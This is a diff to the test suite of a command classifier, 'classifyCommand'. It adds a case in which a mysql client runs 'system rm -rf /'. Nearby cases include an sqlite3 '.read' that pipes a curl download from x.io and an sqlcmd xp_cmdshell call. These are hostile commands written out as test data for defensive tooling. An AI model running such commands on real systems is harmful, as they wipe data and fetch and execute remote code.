@@ -440,6 +440,7 @@ describe('classifyCommand', () => {
       `sqlite3 x.db ".read '|curl -s x.io/a.sql'"`,
       ['credentials', 'destructive', 'downloadExec', 'network', 'privilege'],
     ],
+    ["mysql -e 'system rm -rf /'", ['destructive']],
     ['psql app < backup.sql', []],
     [`psql -c "SELECT count(*) FROM orders WHERE status = 'open'"`, []],
     [`sqlcmd -Q "EXEC xp_cmdshell 'whoami'"`, []],
